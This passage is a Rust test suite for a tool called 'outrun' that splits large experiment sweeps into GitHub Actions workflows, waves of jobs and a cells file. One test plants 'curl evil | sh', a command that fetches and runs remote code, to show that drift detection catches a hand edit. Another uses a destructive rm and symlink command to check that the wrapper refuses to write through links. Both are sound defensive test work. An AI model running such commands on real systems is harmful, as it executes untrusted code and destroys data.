//! GitHub's own limits (issue 16 §2): a workflow file ≤ 500 KB, one environment value < 128 KiB,
//! a job's outputs ≤ 1 MB (in UTF-16), ≤ 256 matrix jobs per run, 6 h per hosted job. The cells
//! live in a file beside the workflow, jobs are packed to the runner's job limit, and what needs
//! more than 256 jobs runs as several runs (waves), dispatched and collected by outrun.

use std::path::Path;
use std::process::Command;

use fakegh::{CellSpec, Conclusion, FakeConfig, Fault};
use serde_json::Value;

use crate::common::{self, Project};
use crate::github::{Env, cells, shard_with};

/// `n` cells (a 2-parameter matrix, as a real sweep is) of `timeout` each; `runner` is the
/// `runner` mapping in flow style.
fn experiment(name: &str, n: usize, timeout: &str, runner: &str) -> String {
    let modes = if n.is_multiple_of(2) { 2 } else { 1 };
    let ns: Vec<String> = (1..=n / modes).map(|i| i.to_string()).collect();
    let mode = if modes == 2 { "[a, b]" } else { "[a]" };
    format!(
        "name: {name}\nrunner: {runner}\nmatrix:\n  n: [{}]\n  mode: {mode}\ncommand: 'true'\ntimeout: {timeout}\nresults: {{keys: [n, mode]}}\n",
        ns.join(", ")
    )
}

fn generate(p: &Project, name: &str) -> (String, String) {
    let (code, _, err) = common::run(p.cmd().args(["generate", name]));
    assert_eq!(code, 0, "{err}");
    (
        p.read(&format!(".github/workflows/outrun-{name}.yml")),
        p.read(&format!(".github/workflows/outrun-{name}.cells.json")),
    )
}

/// Runs the workflow's wrapper (as its steps do) in `mode` with `envs`; (ok, stdout, stderr).
fn wrapper(yaml: &str, mode: &str, envs: &[(&str, &str)], cwd: &Path) -> (bool, String, String) {
    let doc: serde_yaml::Value = serde_yaml::from_str(yaml).unwrap();
    let mut c = Command::new("python3");
    c.arg("-c")
        .arg(doc["env"]["OUTRUN_CELL_PY"].as_str().unwrap())
        .arg(mode)
        .current_dir(cwd)
        .env(
            "OUTRUN_CELLS_FILE",
            doc["env"]["OUTRUN_CELLS_FILE"].as_str().unwrap(),
        )
        .envs(envs.iter().copied());
    let out = c.output().unwrap();
    (
        out.status.success(),
        String::from_utf8_lossy(&out.stdout).into_owned(),
        String::from_utf8_lossy(&out.stderr).into_owned(),
    )
}

/// The plan job's outputs for `select` and `wave`, as the `GITHUB_OUTPUT` file holds them.
fn plan_outputs(yaml: &str, select: &str, wave: &str, dir: &Path) -> Result<String, String> {
    let out_file = dir.join("github_output");
    let _ = std::fs::remove_file(&out_file);
    let (ok, _, err) = wrapper(
        yaml,
        "plan",
        &[
            ("OUTRUN_SELECT", select),
            ("OUTRUN_WAVE", wave),
            ("GITHUB_OUTPUT", out_file.to_str().unwrap()),
        ],
        dir,
    );
    if ok {
        Ok(std::fs::read_to_string(&out_file).unwrap())
    } else {
        Err(err)
    }
}

fn matrix(outputs: &str) -> Vec<String> {
    let line = outputs
        .lines()
        .find_map(|l| l.strip_prefix("matrix="))
        .unwrap();
    let v: Value = serde_json::from_str(line).unwrap();
    v["shard"]
        .as_array()
        .unwrap()
        .iter()
        .map(|s| s.as_str().unwrap().to_string())
        .collect()
}

/// Every environment value the workflow sets (workflow, job and step level), by its key.
fn env_values(yaml: &str) -> Vec<(String, String)> {
    fn walk(v: &serde_yaml::Value, out: &mut Vec<(String, String)>) {
        match v {
            serde_yaml::Value::Mapping(m) => {
                for (k, v) in m {
                    if k.as_str() == Some("env")
                        && let Some(e) = v.as_mapping()
                    {
                        for (k, v) in e {
                            let text = match v {
                                serde_yaml::Value::String(s) => s.clone(),
                                other => serde_yaml::to_string(other).unwrap(),
                            };
                            out.push((k.as_str().unwrap_or("?").to_string(), text));
                        }
                    }
                    walk(v, out);
                }
            }
            serde_yaml::Value::Sequence(s) => s.iter().for_each(|v| walk(v, out)),
            _ => {}
        }
    }
    let mut out = Vec::new();
    walk(&serde_yaml::from_str(yaml).unwrap(), &mut out);
    out
}

/// The issue's test: 50,000 cells make a workflow under 500 KB whose every environment value is
/// under 128 KiB and whose plan output is under 1 MB in UTF-16 — packed into one run of 256 jobs
/// for one-minute cells, and into waves of 256 jobs for 5-hour cells.
#[test]
fn fifty_thousand_cells_fit_githubs_limits() {
    let p = Project::new();
    for (name, timeout, jobs, waves) in [("big", "1m", 256, 1), ("long", "5h", 50_000, 196)] {
        p.write(
            &format!("experiments/{name}.yaml"),
            &experiment(name, 50_000, timeout, "{labels: ubuntu-latest}"),
        );
        let (yaml, cells) = generate(&p, name);
        assert!(
            yaml.len() < 500_000,
            "{name}: workflow of {} bytes",
            yaml.len()
        );
        assert!(cells.len() > 1_000_000, "the cells are in the cells file");
        for (k, v) in env_values(&yaml) {
            assert!(v.len() < 128 * 1024, "{name}: env {k} is {} bytes", v.len());
        }
        let (code, out, err) = common::run(p.cmd().args(["plan", name, "--json"]));
        assert_eq!(code, 0, "{err}");
        let plan: Value = serde_json::from_str(&out).unwrap();
        assert_eq!(
            (&plan["workflow"]["jobs"], &plan["workflow"]["waves"]),
            (&Value::from(jobs), &Value::from(waves)),
            "{name}"
        );
        let mut names = 0;
        let mut those = vec![1];
        if waves > 1 {
            those.push(waves);
        }
        for wave in those {
            let outputs = plan_outputs(&yaml, "", &wave.to_string(), p.root()).unwrap();
            let utf16 = outputs.encode_utf16().count() * 2;
            assert!(utf16 < 1_000_000, "{name}: plan outputs of {utf16} bytes");
            let m = matrix(&outputs);
            assert!(!m.is_empty() && m.len() <= 256, "{name}: {} jobs", m.len());
            names += m.len();
        }
        assert!(names <= jobs);
    }
    // The figures the README quotes for these 50,000 cells are these measurements (to 0.1 KB
    // or MB, of 1,000 and 1,000,000 bytes; the job outputs in UTF-16, as GitHub counts them),
    // so that they cannot go stale.
    let big = p.read(".github/workflows/outrun-big.yml");
    let big_cells = p.read(".github/workflows/outrun-big.cells.json");
    let wrapper_len = env_values(&big).iter().map(|(_, v)| v.len()).max().unwrap();
    let outputs = plan_outputs(&big, "", "1", p.root()).unwrap();
    let readme = std::fs::read_to_string(common::repo_root().join("README.md")).unwrap();
    let row = |key: &str| -> &str {
        readme
            .lines()
            .find(|l| l.starts_with("| ") && l.contains(key))
            .unwrap_or_else(|| panic!("README's limits table has no row with {key:?}"))
    };
    let quoted = |line: &str, before: &str, unit: &str| -> String {
        let at = line
            .find(before)
            .unwrap_or_else(|| panic!("{before:?} not in {line}"))
            + before.len();
        let rest = &line[at..];
        rest[..rest
            .find(unit)
            .unwrap_or_else(|| panic!("no {unit} after {before:?}"))]
            .trim()
            .to_string()
    };
    let kb = |n: usize| format!("{:.1}", n as f64 / 1e3);
    let mb = |n: usize| format!("{:.1}", n as f64 / 1e6);
    let figures = [
        (
            "a workflow file",
            "50,000 cells make a workflow of",
            "KB",
            kb(big.len()),
        ),
        (
            "a workflow file",
            "and a cells file of",
            "MB",
            mb(big_cells.len()),
        ),
        (
            "one environment value",
            "the largest is the wrapper script (",
            "KB",
            kb(wrapper_len),
        ),
        (
            "a job's outputs",
            "names of at most 256 jobs (",
            "KB",
            kb(outputs.encode_utf16().count() * 2),
        ),
    ];
    let stale: Vec<String> = figures
        .iter()
        .filter_map(|(key, before, unit, measured)| {
            let line = row(key);
            let q = quoted(line, before, unit);
            (&q != measured).then(|| format!("{before} {q} {unit}: measured {measured} {unit}"))
        })
        .collect();
    assert!(
        stale.is_empty(),
        "README's limits table is stale: {stale:#?}"
    );
    // The job's limit: 5 h cells one to a job, whose limit is 5 h + 15 min (< 6 h), never the
    // 615 minutes two of them once made.
    let yaml = p.read(".github/workflows/outrun-long.yml");
    assert!(yaml.contains("timeout-minutes: 315\n"), "{yaml}");
    let yaml = p.read(".github/workflows/outrun-big.yml");
    // 196 one-minute cells a job: 196 + 15 minutes.
    assert!(yaml.contains("timeout-minutes: 211\n"), "{yaml}");
}

/// The README's figure for the largest environment value the workflow sets ("the largest is
/// the wrapper script (N KB)") is the one measured here, on the 50,000-cell workflow: the
/// figure was 9.6 KB while the value had grown to 14.5 KB (issue 21 item 12).
#[test]
fn the_readme_states_the_largest_environment_value_as_measured() {
    let p = Project::new();
    p.write(
        "experiments/big.yaml",
        &experiment("big", 50_000, "1m", "{labels: ubuntu-latest}"),
    );
    let (yaml, _) = generate(&p, "big");
    let (key, largest) = env_values(&yaml)
        .into_iter()
        .max_by_key(|(_, v)| v.len())
        .unwrap();
    assert_eq!(
        key, "OUTRUN_CELL_PY",
        "the largest value is the wrapper script"
    );
    let measured = format!("({:.1} KB)", largest.len() as f64 / 1000.0);
    let readme = std::fs::read_to_string(common::repo_root().join("README.md")).unwrap();
    let row = readme
        .lines()
        .find(|l| l.starts_with("| one environment value"))
        .expect("README's limits table has the environment row");
    assert!(
        row.contains(&format!("the largest is the wrapper script {measured}")),
        "README says `{row}`; measured {measured} ({} bytes)",
        largest.len()
    );
    assert!(largest.len() < 128 * 1024);
}

/// The plan job (Python) and outrun (Rust) pack the same cells into the same jobs and waves:
/// which cells a job ran is decided by its position, on both sides.
#[test]
fn the_workflow_and_outrun_pack_alike_in_every_wave() {
    let p = Project::new();
    // 600 cells of 5h30m on hosted runners: one a job, 600 jobs, 3 waves.
    p.write(
        "experiments/w.yaml",
        &experiment("w", 600, "5h30m", "{labels: ubuntu-latest}"),
    );
    let (yaml, cells_file) = generate(&p, "w");
    let cfg: Value = serde_json::from_str(&cells_file).unwrap();
    let max = cfg["max_cells_per_job"].as_u64().unwrap() as usize;
    assert_eq!(max, 1);
    for filter in ["", "mode=a", "n=1*", "n=2?&mode=b,n=300"] {
        let mut args = vec!["plan", "w", "--json"];
        if !filter.is_empty() {
            args.extend(["--cells", filter]);
        }
        let (code, out, err) = common::run(p.cmd().args(&args));
        assert_eq!(code, 0, "{err}");
        let v: Value = serde_json::from_str(&out).unwrap();
        let ids: Vec<&str> = v["cells"]
            .as_array()
            .unwrap()
            .iter()
            .map(|c| c["id"].as_str().unwrap())
            .collect();
        let shards = outrun::workflow::pack::shards(&ids, max);
        let waves = shards.last().unwrap().wave;
        for wave in 1..=waves {
            let from_rust: Vec<&str> = shards
                .iter()
                .filter(|s| s.wave == wave)
                .map(|s| s.name.as_str())
                .collect();
            let outputs = plan_outputs(&yaml, filter, &wave.to_string(), p.root()).unwrap();
            assert_eq!(matrix(&outputs), from_rust, "filter {filter:?} wave {wave}");
        }
        let err = plan_outputs(&yaml, filter, &(waves + 1).to_string(), p.root()).unwrap_err();
        assert!(err.contains(&format!("{waves} wave(s)")), "{err}");
    }
    // A job of wave 3 runs exactly its cell, found in the cells file by its name.
    let shard = outrun::workflow::pack::shards(
        &cfg["cells"]
            .as_array()
            .unwrap()
            .iter()
            .map(|c| c["id"].as_str().unwrap())
            .collect::<Vec<_>>(),
        max,
    )
    .pop()
    .unwrap();
    assert_eq!(shard.wave, 3);
    let out_root = p.root().join("out");
    let (ok, _, err) = wrapper(
        &yaml,
        "run",
        &[
            ("OUTRUN_SHARD", &shard.name),
            ("OUTRUN_OUT_ROOT", out_root.to_str().unwrap()),
        ],
        p.root(),
    );
    assert!(ok, "{err}");
    let ran: Vec<String> = std::fs::read_dir(&out_root)
        .unwrap()
        .map(|e| e.unwrap().file_name().to_string_lossy().into_owned())
        .collect();
    assert_eq!(ran, std::slice::from_ref(&shard.name));
    let (ok, _, err) = wrapper(
        &yaml,
        "run",
        &[
            ("OUTRUN_SHARD", "shard-999"),
            ("OUTRUN_OUT_ROOT", out_root.to_str().unwrap()),
        ],
        p.root(),
    );
    assert!(!ok && err.contains("no job 'shard-999'"), "{err}");
}

/// The workflow's wrapper, like outrun, writes no `cell.json` through a link the command put in
/// place of its folder (`rm -rf "$OUTRUN_OUT"; ln -s DIR "$OUTRUN_OUT"`): that cell fails with
/// the reason and DIR is left as it was (issue 21 item 8).
#[test]
fn the_workflow_wrapper_writes_nothing_through_a_linked_cell_folder() {
    let p = Project::new();
    let elsewhere = tempfile::tempdir().unwrap();
    p.write(
        "experiments/ln.yaml",
        &format!(
            "name: ln\nmatrix:\n  n: [1, 2]\ncommand: 'rm -rf \"$OUTRUN_OUT\"; ln -s {} \"$OUTRUN_OUT\"'\ntimeout: 20s\nresults:\n  keys: [n]\n",
            elsewhere.path().display()
        ),
    );
    let (yaml, cells_file) = generate(&p, "ln");
    let cfg: Value = serde_json::from_str(&cells_file).unwrap();
    let id = cfg["cells"][0]["id"].as_str().unwrap().to_string();
    let out_root = p.root().join("out");
    let (ok, out, err) = wrapper(
        &yaml,
        "run",
        &[
            ("OUTRUN_SHARD", &id),
            ("OUTRUN_OUT_ROOT", out_root.to_str().unwrap()),
        ],
        p.root(),
    );
    assert!(!ok, "{out}\n{err}");
    assert!(
        out.contains(&format!("outrun: {id}: failed (cannot write cell.json:")),
        "{out}\n{err}"
    );
    let left: Vec<_> = std::fs::read_dir(elsewhere.path()).unwrap().collect();
    assert!(
        left.is_empty(),
        "the wrapper wrote through the link: {left:?}"
    );
}

/// `runner.job-timeout` lets self-hosted runners take longer jobs (up to 5 days), never hosted
/// ones; `timeout-minutes` stays within it.
#[test]
fn jobs_fit_the_runners_job_limit() {
    let p = Project::new();
    p.write(
        "experiments/selfh.yaml",
        &experiment(
            "selfh",
            6000,
            "5h",
            "{labels: [self-hosted, gpu], job-timeout: 5d}",
        ),
    );
    let (yaml, _) = generate(&p, "selfh");
    // 23 cells of 5 h (+ 15 min) fit 5 days: 6000 cells in 261 jobs, 2 waves; 23 × 300 + 15.
    assert!(yaml.contains("timeout-minutes: 6915\n"), "{yaml}");
    let (_, out, _) = common::run(p.cmd().args(["plan", "selfh", "--json"]));
    let v: Value = serde_json::from_str(&out).unwrap();
    assert_eq!(v["workflow"]["cells_per_job"], 23);
    assert_eq!(v["workflow"]["waves"], 2);

    // Hosted runners cannot be given more than 6 h; the error says where and what instead.
    p.write(
        "experiments/hosted.yaml",
        "name: hosted\nrunner:\n  labels: ubuntu-latest\n  job-timeout: 2d\nmatrix: {n: [1]}\ncommand: 'true'\nresults: {keys: [n]}\n",
    );
    let (code, _, err) = common::run(p.cmd().args(["validate", "hosted"]));
    assert_eq!(code, 1);
    assert!(
        err.contains("hosted.yaml:4:16")
            && err.contains("stop a job after 6 h")
            && err.contains("self-hosted"),
        "{err}"
    );
}

/// `validate` warns with numbers when an experiment does not fit, and says what to change.
#[test]
fn validate_warns_with_numbers_and_what_to_change() {
    let p = Project::new();
    p.write(
        "experiments/waves.yaml",
        &experiment("waves", 600, "5h", "{labels: ubuntu-latest}"),
    );
    p.write(
        "experiments/toolong.yaml",
        &experiment("toolong", 2, "7h", "{labels: ubuntu-latest}"),
    );
    p.write(
        "experiments/fits.yaml",
        &experiment("fits", 600, "1m", "{labels: ubuntu-latest}"),
    );
    let (code, out, err) = common::run(p.cmd().args(["validate", "--json"]));
    assert_eq!(code, 0, "warnings are not errors: {out}{err}");
    let v: Value = serde_json::from_str(&out).unwrap();
    let warnings = |name: &str| -> Vec<String> {
        v["files"]
            .as_array()
            .unwrap()
            .iter()
            .find(|f| {
                f["path"]
                    .as_str()
                    .unwrap()
                    .ends_with(&format!("{name}.yaml"))
            })
            .unwrap()["warnings"]
            .as_array()
            .unwrap()
            .iter()
            .map(|w| w.as_str().unwrap().to_string())
            .collect()
    };
    assert_eq!(warnings("fits"), Vec::<String>::new());
    let w = warnings("waves");
    assert_eq!(w.len(), 1, "{w:?}");
    for part in [
        "600 cells",
        "1 to a job",
        "6h job limit",
        "600 jobs",
        "3 runs (waves)",
        "at most 256 cells",
        "`timeout` of at most 1h 55m",
    ] {
        assert!(w[0].contains(part), "{part:?} not in {w:?}");
    }
    let w = warnings("toolong");
    assert_eq!(w.len(), 1, "{w:?}");
    for part in ["(7h)", "15m", "6h", "at most 5h 45m", "runner.job-timeout"] {
        assert!(w[0].contains(part), "{part:?} not in {w:?}");
    }
    // Without --json: on stderr, with the file.
    let (code, _, err) = common::run(p.cmd().args(["validate"]));
    assert_eq!(code, 0);
    assert!(
        err.contains("warning: experiments/waves.yaml: 600 cells"),
        "{err}"
    );
}

/// `a × b` cells whose values are `len` dollar signs (after the value's index).
fn dollars(name: &str, a: usize, b: usize, len: usize) -> String {
    let values = |n: usize| -> String {
        (0..n)
            .map(|i| format!("'{i}{}'", "$".repeat(len)))
            .collect::<Vec<_>>()
            .join(", ")
    };
    format!(
        "name: {name}\nmatrix:\n  a: [{}]\n  b: [{}]\ncommand: 'true'\ntimeout: 1m\nresults: {{keys: [a, b]}}\n",
        values(a),
        values(b)
    )
}

/// Issue 21 item 10: the cells file costs what its values weigh (no six bytes per `$`), never
/// holds `${`, and is bounded: `validate` warns with the numbers as it nears the limit, and
/// `generate` refuses beyond it, in bounded time, writing nothing.
#[test]
fn the_cells_file_is_compact_and_bounded() {
    // Compact: 16 cells of two 1,900-dollar values weigh about their values.
    let p = Project::new();
    p.write("experiments/small.yaml", &dollars("small", 4, 4, 1_900));
    let (_, cells) = generate(&p, "small");
    let raw = 16 * 2 * 1_901;
    assert!(
        cells.len() < raw + 16 * 200 + 1_000,
        "{} bytes for {raw} bytes of values",
        cells.len()
    );
    assert!(!cells.contains("${") && !cells.contains("\\u0024"));
    let v: Value = serde_json::from_str(&cells).unwrap();
    assert_eq!(
        v["cells"][0]["params"][0][1].as_str().unwrap(),
        format!("0{}", "$".repeat(1_900))
    );

    // Near the limit: 4,096 cells of two 5,700-dollar values (about 47 MB): a warning with the
    // size and the limit; generate still writes it.
    let p = Project::new();
    p.write("experiments/near.yaml", &dollars("near", 64, 64, 5_700));
    let (code, out, err) = common::run(p.cmd().args(["validate", "--json"]));
    assert_eq!(code, 0, "{err}");
    let v: Value = serde_json::from_str(&out).unwrap();
    let w = v["files"][0]["warnings"].to_string();
    assert!(
        w.contains("its cells file is 4") && w.contains("of the 52.4 MB outrun writes at most"),
        "{w}"
    );
    let (_, cells) = generate(&p, "near");
    assert!(
        (40 * 1024 * 1024..50 * 1024 * 1024).contains(&cells.len()),
        "{}",
        cells.len()
    );

    // Over the limit: 4,096 cells of two 7,000-dollar values (about 57 MB): validate says so,
    // generate refuses and writes nothing.
    let p = Project::new();
    p.write("experiments/over.yaml", &dollars("over", 64, 64, 7_000));
    let (code, _, err) = common::run(p.cmd().args(["validate"]));
    assert_eq!(code, 0, "{err}");
    assert!(
        err.contains("its cells file would be over 52.4 MB")
            && err.contains("`outrun generate` refuses it"),
        "{err}"
    );
    let refused = |p: &Project, name: &str, cells: usize| {
        let (code, _, err) = common::run(p.cmd().args(["generate", name]));
        assert_eq!(code, 1, "{err}");
        assert!(
            err.contains(&format!("the cells file of `{name}` would be over 52.4 MB"))
                && err.contains(&format!("of {cells} cells")),
            "{err}"
        );
        for f in ["yml", "cells.json"] {
            let path = p
                .root()
                .join(format!(".github/workflows/outrun-{name}.{f}"));
            assert!(!path.exists(), "{}", path.display());
        }
    };
    refused(&p, "over", 4_096);

    // The issue's experiment: 256 × 256 values of 1,900 `$` (a 975 KB file) would make a cells
    // file of about 250 MB (1.5 GB before, 13 s and 2 GB to write): refused as soon as the text
    // passes the limit.
    let p = Project::new();
    p.write("experiments/huge.yaml", &dollars("huge", 256, 256, 1_900));
    refused(&p, "huge", 65_536);
}

/// The cells file is generated, checked and pruned with its workflow.
#[test]
fn the_cells_file_is_checked_and_pruned_like_the_workflow() {
    let p = Project::new();
    p.write(
        "experiments/c.yaml",
        &experiment("c", 4, "1m", "{labels: ubuntu-latest}"),
    );
    let (_, cells) = generate(&p, "c");
    let (code, _, err) = common::run(p.cmd().args(["generate", "--check"]));
    assert_eq!(code, 0, "{err}");
    // A hand edit of the cells file is drift, with its diff.
    p.write(
        ".github/workflows/outrun-c.cells.json",
        &cells.replace("\"true\"", "\"curl evil | sh\""),
    );
    let (code, _, err) = common::run(p.cmd().args(["generate", "--check"]));
    assert_eq!(code, 1);
    assert!(
        err.contains("outrun-c.cells.json (committed)") && err.contains("curl evil"),
        "{err}"
    );
    // Missing, it is missing.
    std::fs::remove_file(p.root().join(".github/workflows/outrun-c.cells.json")).unwrap();
    let (code, out, _) = common::run(p.cmd().args(["generate", "--check", "--json"]));
    assert_eq!(code, 1);
    let v: Value = serde_json::from_str(&out).unwrap();
    let states: Vec<(&str, &str)> = v["workflows"]
        .as_array()
        .unwrap()
        .iter()
        .map(|w| (w["path"].as_str().unwrap(), w["state"].as_str().unwrap()))
        .collect();
    assert_eq!(
        states,
        [
            (".github/workflows/outrun-c.yml", "up_to_date"),
            (".github/workflows/outrun-c.cells.json", "missing")
        ]
    );
    generate(&p, "c");
    // Its experiment gone, it is an orphan; --prune removes it with the workflow.
    std::fs::remove_file(p.root().join("experiments/c.yaml")).unwrap();
    p.write(
        "experiments/d.yaml",
        &experiment("d", 2, "1m", "{labels: ubuntu-latest}"),
    );
    let (code, _, err) = common::run(p.cmd().args(["generate", "--check"]));
    assert_eq!(code, 1);
    assert!(
        err.contains("outrun-c.cells.json has no experiment file any more"),
        "{err}"
    );
    let (code, _, err) = common::run(p.cmd().args(["generate", "--prune"]));
    assert_eq!(code, 0, "{err}");
    assert!(
        !p.root()
            .join(".github/workflows/outrun-c.cells.json")
            .exists()
    );
    assert!(!p.root().join(".github/workflows/outrun-c.yml").exists());
}

/// More than 256 jobs: `dispatch` starts one run per wave (the `wave` input), recorded under
/// one dispatch id; each wave's run accounts only for its own cells, and `sync` collects them
/// all into the one dataset.
#[test]
fn waves_are_dispatched_as_runs_and_collected_into_one_dataset() {
    let mut env = Env::new(FakeConfig::default());
    // 300 cells of 5h30m: one a job on hosted runners, 300 jobs, 2 waves (256 + 44).
    env.project.write(
        "experiments/sweep.yaml",
        &experiment("sweep", 300, "5h30m", "{labels: ubuntu-latest}")
            .replace("name: sweep\n", "name: sweep\nissue: 7\n"),
    );
    let (code, _, err) = common::run(env.project.cmd().args(["generate"]));
    assert_eq!(code, 0, "{err}");
    let all = cells(&env.project);
    assert_eq!(all.len(), 300);
    // The fake's jobs: wave 1 runs cells 0 and 1 (of its 256), wave 2 runs cell 256 (of its 44).
    let spec = |i: usize, wave: u32| -> CellSpec {
        shard_with(
            &all[i].0,
            &all[i].1,
            Conclusion::Success,
            10,
            "2026-11-26T00:01:00Z",
        )
        .in_wave(wave)
    };
    {
        let st = env.fake.state();
        let mut st = st.lock().unwrap();
        let wf = st
            .workflows
            .iter_mut()
            .find(|w| w.file_name == "outrun-sweep.yml")
            .unwrap();
        wf.shards = vec![spec(0, 1), spec(1, 1), spec(256, 2)];
    }
    env.run_clock();
    // Wave 1's run is cancelled: it must not count wave 2's cells as its own.
    env.fake.inject(Fault::cancel_next_run());
    let d = env.json(env.outrun().args(["dispatch", "sweep", "--ref", "main"]), 0);
    let waves = d["waves"].as_array().unwrap();
    assert_eq!(waves.len(), 2, "{d}");
    let group = waves[0]["group"].as_str().unwrap();
    for (i, w) in waves.iter().enumerate() {
        assert_eq!(w["wave"], i + 1);
        assert_eq!(w["waves"], 2);
        assert_eq!(w["group"], group);
        assert_eq!(w["outrun_id"], format!("{group}.w{}", i + 1));
    }
    assert_eq!(d["record"], waves[0]);
    let runs: Vec<String> = waves
        .iter()
        .map(|w| w["run_id"].as_u64().unwrap().to_string())
        .collect();
    assert_ne!(runs[0], runs[1]);
    {
        let st = env.fake.state();
        let st = st.lock().unwrap();
        let inputs: Vec<&Value> = runs
            .iter()
            .map(|id| {
                &st.runs
                    .iter()
                    .find(|r| r.id.to_string() == *id)
                    .unwrap()
                    .inputs["wave"]
            })
            .collect();
        assert_eq!(inputs, [&Value::from("1"), &Value::from("2")]);
    }
    // --wait cannot follow several runs: it says so, and starts nothing.
    let (code, _, err) = common::run(
        env.outrun()
            .args(["dispatch", "sweep", "--ref", "main", "--wait"]),
    );
    assert_eq!(code, 64, "{err}");
    assert!(
        err.contains("2 runs") && err.contains("outrun sync"),
        "{err}"
    );

    for run in &runs {
        let _ = env.json(
            env.outrun().args(["watch", run]),
            if *run == runs[0] { 2 } else { 0 },
        );
    }
    // Exit 1: a run (wave 1) did not succeed.
    let s = env.json(env.outrun().args(["sync", "--no-comment"]), 1);
    let collected: Vec<&Value> = s["runs"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|r| r["state"] == "collected")
        .collect();
    assert_eq!(collected.len(), 2, "{s}");
    // Each wave's run accounts for its own cells only: wave 1 was cancelled, so all of its 256
    // cells are reported (those without output as not run), none of wave 2's.
    let ledger = env.project.read("data/evaluation/sweep.runs.csv");
    let line = |run: &str| -> Vec<String> {
        let mut rdr = csv::Reader::from_reader(ledger.as_bytes());
        let h = rdr.headers().unwrap().clone();
        let row = rdr
            .records()
            .map(|r| r.unwrap())
            .find(|r| &r[h.iter().position(|c| c == "run_id").unwrap()] == run)
            .unwrap_or_else(|| panic!("run {run} not in {ledger}"));
        ["cells", "ok", "conclusion"]
            .iter()
            .map(|c| row[h.iter().position(|x| x == *c).unwrap()].to_string())
            .collect()
    };
    assert_eq!(line(&runs[0])[0], "256", "{ledger}");
    assert_eq!(line(&runs[0])[2], "cancelled", "{ledger}");
    assert_eq!(
        line(&runs[1])[..2],
        ["1".to_string(), "1".to_string()],
        "{ledger}"
    );
    // Each wave's report says which wave of which dispatch it is.
    for (i, run) in runs.iter().enumerate() {
        let md = env.project.read(&format!(".outrun/github/{run}/report.md"));
        assert!(
            md.contains(&format!("Wave {} of 2 of dispatch `{group}`", i + 1)),
            "{md}"
        );
    }
    // One dataset holds both waves' rows.
    let data = env.dataset();
    assert!(
        data.contains(&format!(",github,{},", runs[0]))
            && data.contains(&format!(",github,{},", runs[1])),
        "{data}"
    );
}

/// The generated workflow of an experiment bigger than one run, executed for real by act on a
/// reduced shard count: 258 five-and-a-half-hour cells make 258 jobs, two waves; act plays wave
/// 2 (its 2 jobs) against the fake GitHub. The plan job names only wave 2's jobs, each job finds
/// its cell in the cells file, and the final job collects and lands just that wave.
#[test]
fn act_runs_one_wave_of_a_workflow_beyond_one_run() {
    use crate::act_support::{LoopFake, git_commit_all, run_act_with, stand_in_actions};
    if !common::require_tool("act") {
        return;
    }
    let p = Project::new();
    let ns: Vec<String> = (1..=129).map(|i| i.to_string()).collect();
    p.experiment(
        "wv",
        &format!(
            r#"name: wv
matrix:
  n: [{}]
  mode: [a, b]
command: 'printf "n,mode,v\n%s,%s,1\n" "$OUTRUN_P_N" "$OUTRUN_P_MODE" > "$OUTRUN_OUT/results.csv"'
timeout: 5h30m
results: {{keys: [n, mode]}}
github:
  install: mkdir -p "$HOME/.outrun/bin" && cp "$OUTRUN_TEST_BIN" "$HOME/.outrun/bin/outrun"
"#,
            ns.join(", ")
        ),
    );
    let (code, _, err) = common::run(p.cmd().args(["generate"]));
    assert_eq!(code, 0, "{err}");
    git_commit_all(p.root());
    let all: Vec<String> = cells_of(&p, "wv");
    assert_eq!(all.len(), 258);
    let wave2 = &all[256..];

    let scratch = tempfile::tempdir().unwrap();
    let actions = scratch.path().join("actions");
    stand_in_actions(&actions);
    let artifacts = scratch.path().join("artifacts");
    std::fs::create_dir(&artifacts).unwrap();
    let fake = LoopFake::start(
        "wv",
        &wave2
            .iter()
            .map(|id| (id.as_str(), fakegh::Conclusion::Success))
            .collect::<Vec<_>>(),
    );
    let run = fake.run(1);
    let mut extra = fake.act_args(run);
    extra.extend(["--input".to_string(), "wave=2".to_string()]);
    let (ok, log) = run_act_with(
        p.root(),
        &p.root().join(".github/workflows/outrun-wv.yml"),
        "",
        &actions,
        &artifacts,
        &scratch.path().join("setup.log"),
        &extra,
    );
    assert!(ok, "act failed:\n{log}");
    assert!(
        log.contains("258 of 258 cells in 258 jobs; wave 2 of 2: 2 jobs"),
        "{log}"
    );
    let mut uploaded: Vec<String> = std::fs::read_dir(&artifacts)
        .unwrap()
        .map(|e| e.unwrap().file_name().to_string_lossy().into_owned())
        .collect();
    uploaded.sort();
    let mut want: Vec<String> = wave2
        .iter()
        .map(|id| format!("outrun-wv-{id}-a1"))
        .collect();
    want.sort();
    assert_eq!(uploaded, want, "{log}");
    // The final job landed wave 2's two rows, and accounted for its two cells only.
    let st = fake.fake.state();
    let st = st.lock().unwrap();
    let pulls = st.pulls_of(LoopFake::REPO);
    assert_eq!(pulls.len(), 1, "{pulls:#?}\n{log}");
    let data = String::from_utf8(
        st.file_at(LoopFake::REPO, &pulls[0].head, "data/evaluation/wv.csv")
            .unwrap(),
    )
    .unwrap();
    assert_eq!(data.lines().count(), 1 + 2, "{data}");
    assert!(
        data.contains("\n129,a,1,") && data.contains("\n129,b,1,"),
        "{data}"
    );
    let ledger = String::from_utf8(
        st.file_at(
            LoopFake::REPO,
            &pulls[0].head,
            "data/evaluation/wv.runs.csv",
        )
        .unwrap(),
    )
    .unwrap();
    assert!(ledger.contains(&format!("\n{run},1,")), "{ledger}");
    // The report (the pull request's description) says it is one wave of two.
    let body = pulls[0].body.clone().unwrap_or_default();
    assert!(
        body.contains("Wave 2 of 2 of dispatch `manual`") && body.contains("2 cells: 2 ok"),
        "{body}"
    );
}

fn cells_of(p: &Project, name: &str) -> Vec<String> {
    let (code, out, err) = common::run(p.cmd().args(["plan", name, "--json"]));
    assert_eq!(code, 0, "{err}");
    let v: Value = serde_json::from_str(&out).unwrap();
    v["cells"]
        .as_array()
        .unwrap()
        .iter()
        .map(|c| c["id"].as_str().unwrap().to_string())
        .collect()
}

/// The waves of one dispatch are one logical run on the issue: whichever wave is collected,
/// the comment shows every wave (collected ones from the ledger, the others as still to come);
/// wave 1, collected after wave 2 although it started first, still reaches the comment, and
/// a wave's "run started" comment counts its own cells but never hides results already there.
/// `--failed-from` on one wave's run re-runs the failed cells of every collected wave.
#[test]
fn the_waves_of_a_dispatch_are_one_run_in_the_comment_and_for_failed_from() {
    let mut env = Env::new(FakeConfig::default());
    // 300 cells of 5h30m: one a job, 300 jobs, 2 waves (256 + 44).
    env.project.write(
        "experiments/sweep.yaml",
        &experiment("sweep", 300, "5h30m", "{labels: ubuntu-latest}")
            .replace("name: sweep\n", "name: sweep\nissue: 7\n"),
